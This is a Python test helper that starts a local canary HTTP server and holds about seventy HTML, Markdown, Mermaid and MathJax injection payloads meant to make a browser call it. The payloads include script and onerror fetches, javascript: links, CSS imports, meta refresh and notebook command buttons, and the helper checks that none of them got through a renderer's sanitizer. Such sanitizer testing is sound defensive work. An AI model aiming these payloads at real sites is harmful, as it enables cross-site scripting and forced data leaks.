"""A host that must not be asked, and the texts that try to have a browser ask it."""

from __future__ import annotations

import re
import secrets
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

from playwright.sync_api import Page

# Each is `kind: text`. `html` fetches by itself in a page that trusts it, `markdown` where Markdown is trusted;
# `click` does something only when it is clicked or drawn. U is an address of the canary's, S one of the page's host.
TEXTS = r"""
html: <img src="U">
click: <img src=U alt=x
html: <img src="S">
html: <img src="data:image/png;base64,iVBORw0KGgo=" srcset="U 1x">
html: <img src="x" onerror="fetch('U')">
html: <picture><source srcset="U"><img src="data:,"></picture>
html: <audio src="U" autoplay></audio>
html: <video src="U" autoplay muted></video>
html: <video poster="U"></video>
html: <div style="background:url(U)">x</div>
html: <p style="background-image:image-set(url('U') 1x)">x</p>
html: <ul style="list-style-image:url(U)"><li>x</li></ul>
html: <table background="U"><tr><td>x</td></tr></table>
html: <style>body{background:url(U)}</style>
html: <style>@import url(U);</style>
html: <svg><image href="U" width="9" height="9"/></svg>
html: <svg onload="fetch('U')"></svg>
html: <svg><style>@import 'U';</style></svg>
html: <svg><use href="S#x"/></svg>
html: <svg><script>fetch('U')</script></svg>
html: <math><mtext><img src="U"></mtext></math>
html: <link rel="stylesheet" href="U">
html: <link rel="preload" as="image" href="U">
html: <iframe src="U"></iframe>
html: <iframe srcdoc="<img src='U'>"></iframe>
html: <iframe src="javascript:fetch('U')"></iframe>
html: <object data="U"></object>
html: <embed src="U">
html: <base href="U/"><img src="below">
html: <meta http-equiv="refresh" content="0;url=U">
html: <script src="U"></script>
html: <script>fetch('U')</script>
html: <script>location = 'U'</script>
html: <input type="image" src="U">
html: <form action="U" id="f"><input name="a"></form><img src="x" onerror="this.previousSibling.submit()">
html: <details open ontoggle="fetch('U')"><summary>x</summary>y</details>
click: <input autofocus onfocus="fetch('U')">
html: <body onload="fetch('U')">
html: <img src="&#104;ttp://&#x31;27.0.0.1:P/W/N">
html: <script>navigator.sendBeacon('U')</script>
html: <script>new Image().src = 'S'</script>
markdown: ![x](U)
markdown: ![x](<U> "title")
markdown: ![x](S)
markdown: ![x][refN]\n\n[refN]: U
markdown: [![x](U)](https://example.org)
markdown: ![x](//127.0.0.1:P/W/N)
markdown: | a |\n|---|\n| ![x](U) |
markdown: - a\n\n  > ![x](U)
click: ```mermaid\ngraph TD\n A["<img src='U'>"] --> B\n click A href "U"\n```
click: > ~~~~ mermaid\n> graph TD\n>  A["<img src='U'>"]\n> ~~~~
click: $\href{U}{x}$ $$\href{javascript:fetch('U')}{y}$$
click: $$\includegraphics{U}$$ $\require{html}\style{background:url(U)}{x}$
click: $\class{jp-mod-command}{x}$ $\unicode{x41;url(U)}$ \\(\cssId{main}{y}\\)
click: U https://example.org/N
click: <U>
click: [x](javascript:fetch\('U'\))
click: [x](data:text/html,<script>fetch\('U'\)</script>)
click: [x](S)
click: [x](file:///etc/N)
click: <a href="javascript:fetch('U')" ping="U">x</a>
click: <button data-commandlinker-command="canary:run" data-commandlinker-args='{"n": "N"}'>x</button>
click: <a href="#" data-commandlinker-command="canary:run">x</a>
click: [x](command:canary:run) [y](#canary:run) [z](./N.ipynb)
click: <area href="U"><button formaction="U" onclick="fetch('U')">x</button>
click: <div onclick="fetch('U')" onmouseover="fetch('U')" id="jp-main-dock-panel" class="jp-Dialog">x</div>
html: <template><p>x</p></template><noscript></noscript><!-- --!><img src="U">-->
html: <div><p title="<img src='U'>"><img src="U">
"""

_LONE = r"(?<![A-Za-z]){}(?![A-Za-z])"


@dataclass(frozen=True)
class Payload:
    """One text; ``number`` is in each address that it names."""

    number: int
    kind: str
    text: str


@dataclass
class Canary:
    """A host that notes who asks it; ``word`` is in the path of each address that a text names."""

    port: int
    word: str = field(default_factory=lambda: f"w{secrets.token_hex(8)}")
    asked: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        """Its address."""
        return f"http://127.0.0.1:{self.port}"

    def payloads(self) -> list[Payload]:
        """Return the texts, with addresses of this host."""
        found = []
        for number, line in enumerate(TEXTS.strip().splitlines()):
            kind, text = line.split(": ", 1)
            text = text.replace("\\n", "\n") if kind != "html" else text
            text = re.sub(_LONE.format("U"), f"{self.url}/{self.word}/{number}", text)
            text = re.sub(_LONE.format("S"), f"/api/{self.word}/{number}", text)
            text = text.replace(":P/W/N", f":{self.port}/{self.word}/{number}").replace("refN", f"ref{number}")
            found.append(Payload(number, kind, text))
        return found

    def numbers(self) -> set[int]:
        """Return the numbers of the texts that had it asked."""
        found = (re.search(rf"{self.word}/(\d+)", path) for path in self.asked)
        return {int(one[1]) for one in found if one}

    def silent(self, page: Page) -> None:
        """Check that nobody has asked, once what is under way has come."""
        page.evaluate(_SETTLED)
        end = f"/end-{secrets.token_hex(4)}"
        page.evaluate("url => fetch(url, {mode: 'no-cors'})", self.url + end)
        asked, self.asked[:] = list(self.asked), []
        assert asked == [end], asked


# what does not come gives no sign of it: a while is all that can be waited
_SETTLED = """() => new Promise(resolve =>
  requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 400))))"""


@contextmanager
def listening() -> Iterator[Canary]:
    """Have a host listen."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            self.do_GET()

        def do_GET(self) -> None:
            canary.asked.append(self.path)
            length = int(self.headers.get("Content-Length") or 0)
            self.rfile.read(length)
            body = b"<!doctype html><title>canary</title>" if self.path == "/blank" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    canary = Canary(server.server_port)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield canary
    finally:
        server.shutdown()
        server.server_close()
